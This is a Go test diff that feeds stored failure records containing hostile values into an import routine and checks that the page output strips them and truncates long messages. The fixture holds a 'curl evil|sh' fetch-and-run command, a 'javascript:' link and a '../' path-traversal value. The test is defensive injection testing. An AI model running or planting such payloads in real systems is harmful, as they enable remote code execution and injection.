@@ -154,3 +154,18 @@ func TestTimesThatNoClockShows(t *testing.T) {
 		require.NoError(t, err)
 	}
 }
+
+// Who can write the storage cannot have the page show a command or an address, nor
+// more of a message than the configuration says.
+func TestSavedFailuresHaveNoCommands(t *testing.T) {
+	w := newWorld(model.Settings{JaegerURL: "http://jaeger"})
+	require.NoError(t, w.Import([]byte(`{"version":1,"failures":[{"key":"k","class":"E","message":"`+strings.Repeat("m", 400)+`","count":3,
+		"command":"curl evil|sh","replays":true,"requires":["evil"],"fill":["evil"],"report":"javascript:evil()","trace_url":"http://evil",
+		"trace_id":"../evil","last_seen":"`+w.now.Format(time.RFC3339)+`"}]}`)))
+	rows := w.state().Failures
+	require.Len(t, rows, 1)
+	assert.Equal(t, []any{"E", int64(3), strings.Repeat("m", 200)}, []any{rows[0].Class, rows[0].Count, rows[0].Message})
+	data, err := json.Marshal(rows)
+	require.NoError(t, err)
+	assert.NotContains(t, string(data), "evil")
+}
